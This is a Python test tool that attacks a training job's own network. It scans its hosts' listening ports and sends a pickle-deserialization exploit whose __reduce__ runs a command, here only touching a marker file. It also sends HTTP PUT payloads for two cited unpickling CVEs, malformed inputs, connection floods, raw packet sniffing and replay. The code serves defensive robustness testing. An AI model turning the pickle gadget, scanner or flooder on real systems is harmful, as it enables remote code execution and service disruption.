# SPDX-License-Identifier: Apache-2.0
"""
An attacker on a job's network: finds every open port of its hosts and tries what there is to try. Run as a program.

    attacker.py once  MARKER PID...     every attack on every open port; prints what came back, as JSON
    attacker.py flood MARKER PID...     the same on every port as soon as it opens, without end, until stdin is closed
    attacker.py record FILE             writes the TCP streams that pass by into a file, until stdin is closed
    attacker.py replay FILE ADDRESS PORT      sends what clients sent to that port once more; prints what came back

A PID stands for a host: its network is the one of that process. MARKER is a file that exists if an attack succeeded.
"""

from __future__ import annotations

import base64
import collections
import json
import os
import pathlib
import pickle
import random
import select
import socket
import struct
import subprocess
import sys
import threading
import time

PATIENCE = 20.0  # strangers are dropped after 5 s; this only bounds the wait


class Exploit:
    """Creates the marker where it is unpickled."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return subprocess.call, (["touch", self.marker],)


def open_ports(pid: int) -> list[tuple[str, int]]:
    """Return the addresses and ports that wait for connections in the network of a process, but for sshd's."""
    found = []
    for name, family in (("tcp", socket.AF_INET), ("tcp6", socket.AF_INET6)):
        for line in pathlib.Path(f"/proc/{pid}/net/{name}").read_text().splitlines()[1:]:
            where, state = line.split()[1], line.split()[3]
            address, port = where.split(":")
            if state != "0A" or int(port, 16) == 22:
                continue
            words = [address[i : i + 8] for i in range(0, len(address), 8)]
            raw = b"".join(bytes.fromhex(word)[::-1] for word in words)
            found.append((socket.inet_ntop(family, raw), int(port, 16)))
    return found


def attacks(marker: str) -> dict[str, bytes]:
    """Return what to send, by name."""
    evil = pickle.dumps(Exploit(marker))
    text = base64.b64encode(evil)

    def put(path: str, body: bytes) -> bytes:
        return f"PUT {path} HTTP/1.1\r\nHost: x\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body

    noise = random.Random(1)
    hello = b"HVDH" + struct.pack("<IQIIII", 1, 0, 0, 1, 4, 0) + bytes(32)
    return {
        # The elastic rendezvous server: workers' notices were unpickled.
        "CVE-2024-10190": put("/worker_addresses/beta:0", text),
        # The key-value server: anybody could put, readers unpickled.
        "CVE-2026-31234": put("/runfunc/func", evil) + put("/global/0", evil) + b"GET /runfunc/func HTTP/1.1\r\n\r\n",
        "a pickle": evil,
        "a pickle with its length": struct.pack("<I", len(evil)) + evil,
        "a huge length": b"\xff" * 8 + b"x" * 1000,
        "the store's own preface": b"HVDSTOR1" + struct.pack("<IB", 1, 5),
        "a data connection without the key": hello + bytes(32),
        "TLS that offers nothing": bytes.fromhex("16030100050100000100") + bytes(200),
        "noise": noise.randbytes(5000),
        "nothing": b"",
    }


def send(address: str, port: int, data: bytes, patience: float = PATIENCE) -> tuple[str, bytes]:
    """Connect, send, and return how it ended and what came back."""
    back = b""
    try:
        with socket.create_connection((address, port), timeout=patience) as connection:
            limit = time.monotonic() + patience
            connection.sendall(data)
            while time.monotonic() < limit:
                connection.settimeout(max(0.01, limit - time.monotonic()))
                piece = connection.recv(4096)
                if not piece:
                    return "closed", back
                back += piece
            return "kept", back
    except TimeoutError:
        return "kept", back
    except ConnectionError:
        return "closed", back


def once(marker: str, pids: list[int]) -> None:
    results: list[dict] = []

    def attack(address: str, port: int, name: str, data: bytes) -> None:
        end, back = send(address, port, data)
        results.append({"port": port, "attack": name, "end": end, "back": back.hex()})

    threads = [
        threading.Thread(target=attack, args=(address, port, name, data))
        for pid in pids
        for address, port in open_ports(pid)
        for name, data in attacks(marker).items()
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(json.dumps(results))


def flood(marker: str, pids: list[int]) -> None:
    """Keep dozens of connections to every port, of all kinds, and open new ones as fast as they are closed."""
    over = threading.Event()
    counts: collections.Counter = collections.Counter()
    seen: set[tuple[str, int]] = set()

    def run(number: int) -> None:
        kinds = list(attacks(marker).values())
        noise = random.Random(number)
        while not over.is_set():
            ports = [where for pid in pids for where in open_ports(pid)]
            if not ports:
                over.wait(0.01)
                continue
            where = noise.choice(ports)
            seen.add(where)
            send(*where, noise.choice(kinds), patience=0.2)
            counts[where] += 1
            over.wait(0.002)

    threads = [threading.Thread(target=run, args=(number,)) for number in range(24)]
    for thread in threads:
        thread.start()
    sys.stdin.read()
    over.set()
    for thread in threads:
        thread.join()
    print(json.dumps({"ports": len(seen), "connections": sum(counts.values())}))


def record(file: str) -> None:
    """Write what passes by: {"source sport dest dport": bytes}, put together by sequence numbers."""
    streams: dict[str, dict[int, bytes]] = collections.defaultdict(dict)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003)) as sniffer:
        print("recording", flush=True)
        while True:
            # What has come is read first, also if this process was slow.
            if sniffer not in select.select([sniffer, sys.stdin], [], [])[0]:
                break
            packet = sniffer.recv(65536)
            if packet[12:14] != b"\x08\x00" or packet[23] != 6:
                continue
            start = 14 + (packet[14] & 15) * 4
            length = struct.unpack(">H", packet[16:18])[0]
            sport, dport, sequence = struct.unpack(">HHI", packet[start : start + 8])
            data = packet[start + (packet[start + 12] >> 4) * 4 : 14 + length]
            name = f"{socket.inet_ntoa(packet[26:30])} {sport} {socket.inet_ntoa(packet[30:34])} {dport}"
            if data:
                streams[name][sequence] = max(data, streams[name].get(sequence, b""), key=len)
    whole = {name: b"".join(parts[key] for key in sorted(parts)).hex() for name, parts in streams.items()}
    pathlib.Path(file).write_text(json.dumps(whole))


def replay(file: str, address: str, port: int) -> None:
    streams = json.loads(pathlib.Path(file).read_text())
    sent = [bytes.fromhex(data) for name, data in streams.items() if name.split()[2:] == [address, str(port)]]
    ends = [send(address, port, data) for data in sent]
    print(json.dumps([[len(data), end, len(back)] for data, (end, back) in zip(sent, ends, strict=True)]))


if __name__ == "__main__":
    what, first, *rest = sys.argv[1:]
    if what == "once":
        once(first, [int(pid) for pid in rest])
    elif what == "flood":
        flood(first, [int(pid) for pid in rest])
    elif what == "record":
        record(first)
    else:
        replay(first, rest[0], int(rest[1]))
    sys.stdout.flush()
    os._exit(0)
